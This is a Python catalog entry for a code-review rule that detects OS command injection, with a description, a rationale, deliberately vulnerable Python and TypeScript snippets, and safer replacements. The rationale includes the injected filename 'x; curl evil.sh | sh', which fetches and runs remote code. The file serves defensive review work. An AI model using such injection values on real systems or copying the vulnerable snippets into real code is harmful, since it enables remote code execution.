"""Catalog entry: OS command built from input."""

from __future__ import annotations

from mcp_backend.review.model import RuleDoc, RuleMeta

RULE = RuleMeta(
    id="command-injection",
    name="OS command built from input",
    checklist_item="injection",
    severity="high",
    confidence="high",
    cwe=78,
    owasp="A03:2021 Injection",
    languages=["python", "javascript"],
    doc=RuleDoc(
        what=(
            "Finds shell commands built at run time: `os.system`, `os.popen`, "
            "`subprocess.*(...,\n"
            "shell=True)`, `asyncio.create_subprocess_shell`, "
            "`child_process.exec`/`execSync` with a\n"
            "non-constant command; and argument lists (`subprocess.run([...])`, "
            "`execFile`, `spawn`) whose\n"
            "program or arguments come from request data. Values passed through "
            "`shlex.quote` are treated\n"
            "as safe."
            "\n\nPython: the taint engine (review/taint/) follows request data from the route "
            "handlers through assignments, formatting, containers and project functions in "
            "other modules (the finding shows the path). Sanitisers it knows: `shlex.quote`, an "
            "argument list without a shell (its first element, the program, still counts), "
            "int/UUID conversion, an allow-list check that returns/raises/aborts."
        ),
        why=(
            "The shell interprets `;`, `&&`, `|`, `$(...)` and backticks. A filename such as\n"
            "`x; curl evil.sh | sh` turns a thumbnail job into remote code "
            "execution. Even without a shell,\n"
            "an argument that starts with `-` can change what a program does "
            "(`--output=/etc/...`)."
        ),
        example=(
            "```python\n"
            '@app.post("/thumbnail")\n'
            "def thumbnail(name: str):\n"
            '    os.system(f"convert uploads/{name} -resize 200x200 thumbs/{name}")\n'
            '    subprocess.run("ping -c 1 " + request.args["host"], shell=True)\n'
            "```\n"
            "\n"
            "```ts\n"
            "exec(`convert uploads/${req.params.name} thumbs/${req.params.name}`);\n"
            "```"
        ),
        instead=(
            "```python\n"
            "subprocess.run(\n"
            '    ["convert", "--", str(upload_path), "-resize", "200x200", str(thumb_path)],\n'
            "    check=True, timeout=30,\n"
            ")\n"
            "```\n"
            "\n"
            "```ts\n"
            'execFile("convert", ["--", uploadPath, thumbPath], { timeout: 30_000 });\n'
            "```"
        ),
        references=[
            "https://cwe.mitre.org/data/definitions/78.html",
            "https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html",
        ],
    ),
)
